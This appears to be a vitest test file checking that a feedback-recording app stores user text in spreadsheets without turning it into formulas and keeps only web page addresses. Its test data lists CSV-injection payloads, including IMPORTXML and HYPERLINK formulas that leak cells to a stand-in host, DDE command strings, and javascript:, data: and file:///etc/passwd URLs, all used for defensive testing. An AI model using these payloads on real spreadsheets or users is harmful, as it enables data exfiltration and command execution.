import { expect, test } from 'vitest';
import { cellsOf } from '../automatic/survey.ts';
import { appendOf, feedbackOf, feedbackRows, inviteCode, item, openTeam, pairOne, post } from './team.ts';

/** OWASP, "CSV Injection": every sign that may begin a formula, and what has been seen behind it. */
const hostile = [
  '=1+1',
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=HYPERLINK("https://evil.example/?leak="&A1&A2,"click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1)',
  '"=1+1"',
  "';=1+1",
  ' =1+1',
  '=1+1;=2+2',
  '%3D1+1',
] as const;

/** Fields of people's text, as the wire names them, and the header under which each is stored. */
const fields = {
  customer: 'Customer',
  note: 'Note',
  quote: 'Quote',
  title: 'Page title',
  channel: 'Channel',
  agent: 'Recorded by',
} as const;

test('no text of a post becomes a formula, and each is stored unchanged', () => {
  const host = openTeam();
  const device = pairOne(host);
  let stored = 0;
  // The rate of one device is 60 items a minute.
  for (const text of hostile) {
    host.advance(60_000);
    const texts = Object.fromEntries(Object.keys(fields).map((name) => [name, text]));
    const client = { score: 80, grade: text, core: text };
    const sent = item({ ...texts, client, tags: [text, text], url: text });
    expect(post(host, appendOf(device, [sent])).results).toMatchObject([{ status: 'appended' }]);
    const row = feedbackRows(host).find((one) => one['Feedback ID'] === sent.id) ?? {};
    for (const header of [...Object.values(fields), 'Grade shown when recorded', 'Version of the extension'])
      expect(row[header]).toBe(text);
    expect(row.Tags).toBe(`${text}, ${text}`);
    expect(row['Page address']).toBe('');
    stored += Object.keys(fields).length + 3;
  }
  const formulas = host.book.sheets
    .flatMap(({ cells }) => cells.flat())
    .filter((cell) => cell?.userEnteredValue?.formulaValue !== undefined);
  expect(formulas).toEqual([]);
  expect(feedbackOf(host)?.cells.length).toBe(hostile.length + 1);
  console.log(`faults: injection: ${formulas.length} formulas from ${stored} hostile texts, each stored unchanged`);
  expect(stored).toBe(20 * 9);
});

test('a device may be called anything', () => {
  const host = openTeam();
  for (const deviceName of hostile) post(host, { v: 1, op: 'pair', code: inviteCode(host), deviceName });
  const names = cellsOf(host, 'devices')
    .slice(1)
    .map((row) => row[1]);
  expect(names).toEqual(hostile);
});

test('an address is kept only when it is one of the web', () => {
  const host = openTeam();
  const device = pairOne(host);
  const addresses = {
    'https://shop.example/orders/7': 'https://shop.example/orders/7',
    'HTTP://shop.example': 'HTTP://shop.example',
    'javascript:alert(1)': '',
    'data:text/html,x': '',
    'https://a b': '',
    '=HYPERLINK("https://x")': '',
    ' https://x.example': '',
    'file:///etc/passwd': '',
  };
  const items = Object.keys(addresses).map((url) => item({ url }));
  post(host, appendOf(device, items));
  expect(feedbackRows(host).map((row) => row['Page address'])).toEqual(Object.values(addresses));
});
